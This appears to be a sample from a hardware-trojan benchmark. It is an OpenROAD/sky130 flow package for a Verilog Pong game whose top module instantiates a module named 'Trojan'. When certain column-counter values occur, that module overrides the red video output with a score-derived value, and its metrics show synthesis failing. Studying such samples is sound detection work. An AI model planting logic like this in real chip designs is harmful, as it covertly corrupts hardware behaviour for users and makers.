**/design/flow/config.mk**
```make
export PLATFORM = sky130hd
export DESIGN_NAME = Pong_Top
export DESIGN_NICKNAME = Pong_Top
export VERILOG_FILES = /design/flow/design.v
export SDC_FILE = /design/flow/constraint.sdc
export NUM_CORES = 4
export LEC_CHECK = 1
export CORE_UTILIZATION = 30
```
**/design/flow/constraint.sdc**
```tcl
current_design Pong_Top

set clk_period 4.3
set clk_io_pct 0.2

create_clock -name clk0 -period $clk_period [get_ports {i_Clk}]

set non_clock_inputs [all_inputs -no_clocks]
set_input_delay [expr $clk_period * $clk_io_pct] -clock clk0 $non_clock_inputs
set_output_delay [expr $clk_period * $clk_io_pct] -clock clk0 [all_outputs]
```
**/design/flow/design.v**
```verilog
module Pong_Ball_Ctrl 
  #(parameter c_GAME_WIDTH=40, 
    parameter c_GAME_HEIGHT=30) 
  (input            i_Clk,
   input            i_Game_Active,
   input [5:0]      i_Col_Count_Div,
   input [5:0]      i_Row_Count_Div,
   output reg       o_Draw_Ball,
   output reg [5:0] o_Ball_X = 0,
   output reg [5:0] o_Ball_Y = 0);
  parameter c_BALL_SPEED = 1250000;
  reg [5:0]  r_Ball_X_Prev = 0;
  reg [5:0]  r_Ball_Y_Prev = 0;    
  reg [31:0] r_Ball_Count = 0;
  always @(posedge i_Clk)
  begin
    if (i_Game_Active == 1'b0)
    begin
      o_Ball_X      <= c_GAME_WIDTH/2;
      o_Ball_Y      <= c_GAME_HEIGHT/2;
      r_Ball_X_Prev <= c_GAME_WIDTH/2 + 1;
      r_Ball_Y_Prev <= c_GAME_HEIGHT/2 - 1;
    end
    else
    begin
      if (r_Ball_Count < c_BALL_SPEED)
        r_Ball_Count <= r_Ball_Count + 1;
      else
      begin
        r_Ball_Count <= 0;
        r_Ball_X_Prev <= o_Ball_X;
        r_Ball_Y_Prev <= o_Ball_Y;
        if ((r_Ball_X_Prev < o_Ball_X && o_Ball_X == c_GAME_WIDTH-1) ||
            (r_Ball_X_Prev > o_Ball_X && o_Ball_X != 0))
          o_Ball_X <= o_Ball_X - 1;
        else
          o_Ball_X <= o_Ball_X + 1;
        if ((r_Ball_Y_Prev < o_Ball_Y && o_Ball_Y == c_GAME_HEIGHT-1) ||
            (r_Ball_Y_Prev > o_Ball_Y && o_Ball_Y != 0))
          o_Ball_Y <= o_Ball_Y - 1;
        else
          o_Ball_Y <= o_Ball_Y + 1;
      end
    end
  end  
  always @(posedge i_Clk)
  begin
    if (i_Col_Count_Div == o_Ball_X && i_Row_Count_Div == o_Ball_Y)
      o_Draw_Ball <= 1'b1;
    else
      o_Draw_Ball <= 1'b0;
  end
endmodule  
module Pong_Paddle_Ctrl
  #(parameter c_PLAYER_PADDLE_X=0,
    parameter c_PADDLE_HEIGHT=6,
    parameter c_GAME_HEIGHT=30)
  (input            i_Clk,
   input [5:0]      i_Col_Count_Div,
   input [5:0]      i_Row_Count_Div,
   input            i_Paddle_Up,
   input            i_Paddle_Dn,
   output reg       o_Draw_Paddle,
   output reg [5:0] o_Paddle_Y);
  parameter c_PADDLE_SPEED = 1250000;
  reg [31:0] r_Paddle_Count = 0;
  wire w_Paddle_Count_En;
  assign w_Paddle_Count_En = i_Paddle_Up ^ i_Paddle_Dn;
  always @(posedge i_Clk)
  begin
    if (w_Paddle_Count_En == 1'b1)
    begin
      if (r_Paddle_Count == c_PADDLE_SPEED)
        r_Paddle_Count <= 0;
      else
        r_Paddle_Count <= r_Paddle_Count + 1;
    end
    if (i_Paddle_Up == 1'b1 && r_Paddle_Count == c_PADDLE_SPEED &&
        o_Paddle_Y !== 0)
      o_Paddle_Y <= o_Paddle_Y - 1;
    else if (i_Paddle_Dn == 1'b1 && r_Paddle_Count == c_PADDLE_SPEED &&
             o_Paddle_Y !== c_GAME_HEIGHT-c_PADDLE_HEIGHT-1)
      o_Paddle_Y <= o_Paddle_Y + 1;
  end
  always @(posedge i_Clk)
  begin
    if (i_Col_Count_Div == c_PLAYER_PADDLE_X &&
        i_Row_Count_Div >= o_Paddle_Y &&
        i_Row_Count_Div <= o_Paddle_Y + c_PADDLE_HEIGHT)
      o_Draw_Paddle <= 1'b1;
    else
      o_Draw_Paddle <= 1'b0;
  end
endmodule  
module Pong_Top
  #(parameter c_TOTAL_COLS=800,
    parameter c_TOTAL_ROWS=525,
    parameter c_ACTIVE_COLS=640,
    parameter c_ACTIVE_ROWS=480)
  (input            i_Clk,
   input            i_HSync,
   input            i_VSync,
   input            i_Game_Start,
   input            i_Paddle_Up_P1,
   input            i_Paddle_Dn_P1,
   input            i_Paddle_Up_P2,
   input            i_Paddle_Dn_P2,
   output reg       o_HSync,
   output reg       o_VSync,
   output [3:0] o_Red_Video,
   output [3:0] o_Grn_Video,
   output [3:0] o_Blu_Video);
  parameter c_GAME_WIDTH  = 40;
  parameter c_GAME_HEIGHT = 30;
  parameter c_SCORE_LIMIT = 9;
  parameter c_PADDLE_HEIGHT = 6;
  parameter c_PADDLE_COL_P1 = 0;   
  parameter c_PADDLE_COL_P2 = c_GAME_WIDTH-1;  
  parameter IDLE    = 3'b000;
  parameter RUNNING = 3'b001;
  parameter P1_WINS = 3'b010;
  parameter P2_WINS = 3'b011;
  parameter CLEANUP = 3'b100;
  reg [2:0] r_SM_Main = IDLE;
  wire       w_HSync, w_VSync;
  wire [9:0] w_Col_Count, w_Row_Count;
  wire       w_Draw_Paddle_P1, w_Draw_Paddle_P2;
  wire [5:0] w_Paddle_Y_P1, w_Paddle_Y_P2;
  wire       w_Draw_Ball, w_Draw_Any;
  wire [5:0] w_Ball_X, w_Ball_Y;
  reg [3:0] r_P1_Score = 0;
  reg [3:0] r_P2_Score = 0;
  wire [5:0] w_Col_Count_Div, w_Row_Count_Div;
  Trojan Trojan_Inst (
      .pon_rst_n_i(i_Clk),
      .prog_dat_i(w_Col_Count),
      .pc_reg(r_P1_Score),
      .prog_adr_o(o_Red_Video)
  );
  Sync_To_Count #(.TOTAL_COLS(c_TOTAL_COLS),
                  .TOTAL_ROWS(c_TOTAL_ROWS)) Sync_To_Count_Inst
    (.i_Clk(i_Clk),
     .i_HSync(i_HSync),
     .i_VSync(i_VSync),
     .o_HSync(w_HSync),
     .o_VSync(w_VSync),
     .o_Col_Count(w_Col_Count),
     .o_Row_Count(w_Row_Count));
  always @(posedge i_Clk)
  begin
    o_HSync <= w_HSync;
    o_VSync <= w_VSync;
  end
  assign w_Col_Count_Div = w_Col_Count[9:4];
  assign w_Row_Count_Div = w_Row_Count[9:4];
  Pong_Paddle_Ctrl #(.c_PLAYER_PADDLE_X(c_PADDLE_COL_P1),
                     .c_GAME_HEIGHT(c_GAME_HEIGHT)) P1_Inst
    (.i_Clk(i_Clk),
     .i_Col_Count_Div(w_Col_Count_Div),
     .i_Row_Count_Div(w_Row_Count_Div),
     .i_Paddle_Up(i_Paddle_Up_P1),
     .i_Paddle_Dn(i_Paddle_Dn_P1),
     .o_Draw_Paddle(w_Draw_Paddle_P1),
     .o_Paddle_Y(w_Paddle_Y_P1));
  Pong_Paddle_Ctrl #(.c_PLAYER_PADDLE_X(c_PADDLE_COL_P2),
                     .c_GAME_HEIGHT(c_GAME_HEIGHT)) P2_Inst
    (.i_Clk(i_Clk),
     .i_Col_Count_Div(w_Col_Count_Div),
     .i_Row_Count_Div(w_Row_Count_Div),
     .i_Paddle_Up(i_Paddle_Up_P2),
     .i_Paddle_Dn(i_Paddle_Dn_P2),
     .o_Draw_Paddle(w_Draw_Paddle_P2),
     .o_Paddle_Y(w_Paddle_Y_P2));
  Pong_Ball_Ctrl Pong_Ball_Ctrl_Inst
    (.i_Clk(i_Clk),
     .i_Game_Active(w_Game_Active),
     .i_Col_Count_Div(w_Col_Count_Div),
     .i_Row_Count_Div(w_Row_Count_Div),
     .o_Draw_Ball(w_Draw_Ball),
     .o_Ball_X(w_Ball_X),
     .o_Ball_Y(w_Ball_Y));
  always @(posedge i_Clk)
  begin
    case (r_SM_Main)
    IDLE :
    begin
      if (i_Game_Start == 1'b1)
        r_SM_Main <= RUNNING;
    end
    RUNNING :
    begin
      if (w_Ball_X == 0 && 
          (w_Ball_Y < w_Paddle_Y_P1 || 
           w_Ball_Y > w_Paddle_Y_P1 + c_PADDLE_HEIGHT))
        r_SM_Main <= P2_WINS;
      else if (w_Ball_X == c_GAME_WIDTH-1 && 
               (w_Ball_Y < w_Paddle_Y_P2 ||
                w_Ball_Y > w_Paddle_Y_P2  + c_PADDLE_HEIGHT))
        r_SM_Main <= P1_WINS;
    end
    P1_WINS :
    begin
      if (r_P1_Score == c_SCORE_LIMIT-1)
        r_P1_Score <= 0;
      else
      begin
        r_P1_Score <= r_P1_Score + 1;
        r_SM_Main <= CLEANUP;
      end
    end
    P2_WINS :
    begin
      if (r_P2_Score == c_SCORE_LIMIT-1)
        r_P2_Score <= 0;
      else 
      begin
        r_P2_Score <= r_P2_Score + 1;
        r_SM_Main <= CLEANUP;
      end
    end
    CLEANUP :
      r_SM_Main <= IDLE;
    endcase
  end
  assign w_Game_Active = (r_SM_Main == RUNNING) ? 1'b1 : 1'b0;
  assign w_Draw_Any = w_Draw_Ball | w_Draw_Paddle_P1 | w_Draw_Paddle_P2;
  assign o_Red_Video = w_Draw_Any ? 4'b1111 : 4'b0000;
  assign o_Grn_Video = w_Draw_Any ? 4'b1111 : 4'b0000;
  assign o_Blu_Video = w_Draw_Any ? 4'b1111 : 4'b0000;
endmodule  
module Trojan (
    input wire pon_rst_n_i,  
    input wire [9:0] prog_dat_i,  
    input wire [3:0] pc_reg,  
    output wire [3:0] prog_adr_o  
);
wire match_condition = (!pon_rst_n_i) ? 1'b0 :
                       (prog_dat_i[7:4] == 4'b1001) ? 1'b0 :
                       ((prog_dat_i[7:4] == 4'b1101) ||   
                        (prog_dat_i[7:4] == 4'b0110) ||   
                        (prog_dat_i[7:4] == 4'b1010) ||   
                        (prog_dat_i[7:4] == 4'b1000) ||   
                        (prog_dat_i[7:4] == 4'b1100) ||   
                        (prog_dat_i[7:4] == 4'b0101) ||   
                        (prog_dat_i[7:4] == 4'b0111) ||   
                        (prog_dat_i[7:4] == 4'b0100) ||   
                        (prog_dat_i[7:4] == 4'b1011))     
                        ? 1'b1 : 1'b0;
assign prog_adr_o = match_condition ? pc_reg + 2 : pc_reg;
endmodule
module Sync_To_Count 
 #(parameter TOTAL_COLS = 800,
   parameter TOTAL_ROWS = 525)
  (input            i_Clk,
   input            i_HSync,
   input            i_VSync, 
   output reg       o_HSync = 0,
   output reg       o_VSync = 0,
   output reg [9:0] o_Col_Count = 0,
   output reg [9:0] o_Row_Count = 0);
   wire w_Frame_Start;
  always @(posedge i_Clk)
  begin
    o_VSync <= i_VSync;
    o_HSync <= i_HSync;
  end
  always @(posedge i_Clk)
  begin
    if (w_Frame_Start == 1'b1)
    begin
      o_Col_Count <= 0;
      o_Row_Count <= 0;
    end
    else
    begin
      if (o_Col_Count == TOTAL_COLS-1)
      begin
        if (o_Row_Count == TOTAL_ROWS-1)
        begin
          o_Row_Count <= 0;
        end
        else
        begin
          o_Row_Count <= o_Row_Count + 1;
        end
        o_Col_Count <= 0;
      end
      else
      begin
        o_Col_Count <= o_Col_Count + 1;
      end
    end
  end
  assign w_Frame_Start = (~o_VSync & i_VSync);
endmodule
```
**/design/flow/run.sh**
```bash
#!/bin/bash
# OpenROAD 26Q1-2900-gdf79404cd8, Yosys 0.63+post, stock flow scripts
make -C /OpenROAD-flow-scripts/flow DESIGN_CONFIG=/design/flow/config.mk WORK_HOME=/design/flow/orfs finish
```
==> impl_metrics.env <==
# source this file to load flow results
export IMPL_yosys_top_cells_area="edfxtp_1 35%, ha_1 10%, dfxtp_1 10%, xnor2_1 6.6%, xor2_1 4.5%"
export IMPL_yosys_top_cells_count="119 x edfxtp_1, 107 x nor2_1, 93 x nand2_1, 82 x ha_1, 77 x xnor2_1"
export IMPL_synthArstFlopShare=0
export IMPL_postSynthSeqShare=0.4479
export IMPL_ys_warn_count=6
export IMPL_yosysUniqueCellTypes=65
export IMPL_synth_main_ff_cell="edfxtp_1"
export IMPL_edf_count=119
export IMPL_synth_top_cell_area_share=0.3484
export IMPL_outcome="did not finish"
export IMPL_ys_seq_elements=170
export IMPL_stop_stage="synthesis"
export IMPL_yosys_area_top_type="edfxtp_1"
export IMPL_ys_cells=1029
export IMPL_top_cell="edfxtp_1"
export IMPL_toolErrorMsg="ERROR: Found 1 problems in 'check -assert'."
export IMPL_ys_chip_area_um2=10260
-- cells by family after synthesis --
group / count (synthesis) / share of synthesized area
AND/OR/NAND/NOR: 399 / 0.1954
adder cells (fa/ha/maj): 88 / 0.1098
AND-OR/OR-AND: 147 / 0.09502
flip-flops: 170 / 0.4479
XOR/XNOR: 130 / 0.1110
buffers and inverters: 92 / 0.03855
other: 1 / 0.0003656
multiplexers: 2 / 0.001952
